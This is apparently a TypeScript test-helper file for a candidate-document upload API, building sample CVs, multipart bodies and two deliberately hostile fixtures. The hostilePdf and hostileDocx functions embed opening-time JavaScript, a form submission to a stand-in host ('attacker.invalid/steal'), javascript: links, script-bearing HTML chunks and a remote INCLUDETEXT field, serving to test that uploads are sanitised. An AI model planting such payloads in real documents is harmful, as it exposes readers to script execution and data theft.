import { readdir } from 'node:fs/promises'
import { setTimeout as delay } from 'node:timers/promises'
import CFB from 'cfb'
import { strToU8, unzipSync, zipSync } from 'fflate'
import type { LightMyRequestResponse } from 'fastify'
import { makeDoc } from '../../src/demo/doc-file.js'
import { makeDocx } from '../../src/demo/docx-file.js'
import { makePdf } from '../../src/demo/pdf-file.js'
import { DiskBlobStore } from '../../src/store/blobs/disk-blob-store.js'
import type { TestApp } from './app.js'

const text = { title: 'Curriculum Vitae', lines: ['Jane Example', 'Software engineer, 8 years', 'Berlin'] }

/** One valid file of each kind, with its media type. */
export const SAMPLES = {
  pdf: { bytes: makePdf(text), contentType: 'application/pdf', name: 'cv.pdf' },
  doc: { bytes: makeDoc(text), contentType: 'application/msword', name: 'cv.doc' },
  docx: {
    bytes: makeDocx(text),
    contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    name: 'cv.docx',
  },
} as const

/** A ZIP that is not a DOCX: it lacks word/document.xml. */
export function zipWithoutDocument(): Buffer {
  return Buffer.from(zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/other.xml': strToU8('<x/>') }))
}

/** A DOCX's parts, from the valid sample, with `extra` added or replacing parts. */
export function docxWith(extra: Record<string, Uint8Array>): Buffer {
  return Buffer.from(zipSync({ ...unzipSync(SAMPLES.docx.bytes), ...extra }))
}

/** An OLE2 compound file holding these streams (paths such as `/Workbook` or `/storage/WordDocument`). */
export function ole2With(streams: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new()
  for (const [path, bytes] of Object.entries(streams)) CFB.utils.cfb_add(container, path, bytes)
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array)
}

/** A raw upload: the file as the body, its name in Content-Disposition. */
export function uploadRaw(
  t: TestApp,
  candidateId: number,
  bytes: Buffer,
  opts: { disposition?: string; contentType?: string; token?: string } = {},
): Promise<LightMyRequestResponse> {
  return t.app.inject({
    method: 'POST',
    url: `/v1/Candidates/${candidateId}/Document`,
    headers: {
      authorization: opts.token ?? t.adminToken,
      'content-type': opts.contentType ?? 'application/octet-stream',
      ...(opts.disposition !== undefined && { 'content-disposition': opts.disposition }),
    },
    payload: bytes,
  })
}

/** A multipart/form-data body with one file part. */
export function multipartBody(bytes: Buffer, fileName: string, field = 'file'): { body: Buffer; contentType: string } {
  const boundary = `----ats-test-${Math.random().toString(16).slice(2)}`
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`
  return {
    body: Buffer.concat([Buffer.from(head, 'utf8'), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  }
}

/** A part of a multipart/form-data body: a text field, or a file when it has a file name. */
export type FormPart = { name: string; value: string } | { name: string; fileName: string; bytes: Buffer }

/** A multipart/form-data body of the given parts, in order. */
export function multipartForm(parts: readonly FormPart[]): { body: Buffer; contentType: string } {
  const boundary = `----ats-test-${Math.random().toString(16).slice(2)}`
  const chunks = parts.map((p) =>
    'value' in p
      ? Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value}\r\n`)
      : Buffer.concat([
          Buffer.from(
            `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"; filename="${p.fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
          ),
          p.bytes,
          Buffer.from('\r\n'),
        ]),
  )
  return { body: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]), contentType: `multipart/form-data; boundary=${boundary}` }
}

export function uploadForm(t: TestApp, candidateId: number, parts: readonly FormPart[]): Promise<LightMyRequestResponse> {
  const { body, contentType } = multipartForm(parts)
  return t.app.inject({
    method: 'POST',
    url: `/v1/Candidates/${candidateId}/Document`,
    headers: { authorization: t.adminToken, 'content-type': contentType },
    payload: body,
  })
}

export function uploadMultipart(
  t: TestApp,
  candidateId: number,
  bytes: Buffer,
  fileName: string,
  opts: { field?: string; token?: string } = {},
): Promise<LightMyRequestResponse> {
  const { body, contentType } = multipartBody(bytes, fileName, opts.field)
  return t.app.inject({
    method: 'POST',
    url: `/v1/Candidates/${candidateId}/Document`,
    headers: { authorization: opts.token ?? t.adminToken, 'content-type': contentType },
    payload: body,
  })
}

export async function newCandidate(t: TestApp, first = 'Jane', last = 'Example'): Promise<number> {
  const res = await t.call('POST', '/v1/Candidates', t.adminToken, { FirstName: first, LastName: last })
  if (res.statusCode !== 201) throw new Error(res.body)
  return (JSON.parse(res.body) as { Id: number }).Id
}

/** Everything an upload can leave behind: rows, blobs, scratch files of uploads and of blob writes. */
export async function storedState(t: TestApp): Promise<{ rows: number; blobs: number; scratch: number }> {
  const { database, blobs, staging } = t.app.services.stores
  // The text of documents already accepted may be read from a scratch copy: once their jobs are done, none may remain.
  await jobsSettled(t)
  const rows = await database.db.selectFrom('documents').select('id').execute()
  let blobCount = 0
  for await (const blob of blobs.list()) if (blob.key) blobCount++
  const incoming = blobs instanceof DiskBlobStore ? await readdir(blobs.incoming).catch(() => []) : []
  return { rows: rows.length, blobs: blobCount, scratch: (await staging.list()).length + incoming.length }
}

/** Waits until the work that follows the uploads so far (reading their text) is done, or given up. */
export function jobsSettled(t: TestApp): Promise<void> {
  const { db } = t.app.services.stores.database
  return waitFor(
    async () => (await db.selectFrom('jobs').select('id').where('state', '!=', 'failed').execute()).length === 0,
    'jobs to finish',
  )
}

/** Waits until `condition` holds, checking often; fails after `timeoutMs`. Waits on a state, never for a time. */
export async function waitFor(condition: () => Promise<boolean> | boolean, what: string, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`)
    await delay(5)
  }
}

/**
 * A PDF that tries everything a hostile one can: JavaScript run on opening,
 * a link to a `javascript:` URL and one to another host, a form that submits
 * itself, an embedded file. Objects are written with exact xref offsets.
 */
export function hostilePdf(): Buffer {
  const script = "app.alert('pdf script ran'); this.submitForm('http://attacker.invalid/steal');"
  const content = 'BT /F1 18 Tf 56 780 Td (Hostile but harmless) Tj ET'
  const embedded = '<script>alert("embedded")</script>'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(run) 5 0 R] >> /EmbeddedFiles << /Names [(x.html) 8 0 R] >> >> /AcroForm << /Fields [] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 6 0 R /Annots [7 0 R 9 0 R] /AA << /O 5 0 R >> >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /S /JavaScript /JS (${script}) >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Annot /Subtype /Link /Rect [50 700 300 760] /A << /S /URI /URI (javascript:alert('link ran')) >> >>",
    '<< /Type /Filespec /F (x.html) /EF << /F 10 0 R >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [50 600 300 660] /A << /S /URI /URI (http://attacker.invalid/) >> >>',
    `<< /Length ${embedded.length} >>\nstream\n${embedded}\nendstream`,
  ]
  let out = '%PDF-1.7\n'
  const offsets: number[] = []
  objects.forEach((body, i) => {
    offsets.push(out.length)
    out += `${String(i + 1)} 0 obj\n${body}\nendobj\n`
  })
  const xref = out.length
  out += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n`
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`
  out += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R >>\nstartxref\n${String(xref)}\n%%EOF\n`
  return Buffer.from(out, 'latin1')
}

/** A DOCX whose text is markup and whose parts reach for script: a `javascript:` link, an HTML chunk, a macro-free field. */
export function hostileDocx(): Buffer {
  const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const text = (s: string) => `<w:p><w:r><w:t xml:space="preserve">${s}</w:t></w:r></w:p>`
  const body =
    `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>` +
    text('&lt;img src=x onerror="document.title=\'pwned\'"&gt;') +
    text('&lt;script&gt;alert("docx script ran")&lt;/script&gt;') +
    `<w:p><w:hyperlink r:id="rIdJs"><w:r><w:t>Click me</w:t></w:r></w:hyperlink></w:p>` +
    `<w:altChunk r:id="rIdHtml"/>` +
    `<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://attacker.invalid/x&quot;"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>` +
    `</w:body></w:document>`
  return docxWith({
    'word/document.xml': strToU8(body),
    'word/_rels/document.xml.rels': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="rIdJs" Type="${R}/hyperlink" Target="javascript:alert('link ran')" TargetMode="External"/>` +
        `<Relationship Id="rIdHtml" Type="${R}/aFChunk" Target="chunk.html"/></Relationships>`,
    ),
    'word/chunk.html': strToU8('<html><body><script>alert("chunk ran")</script></body></html>'),
  })
}
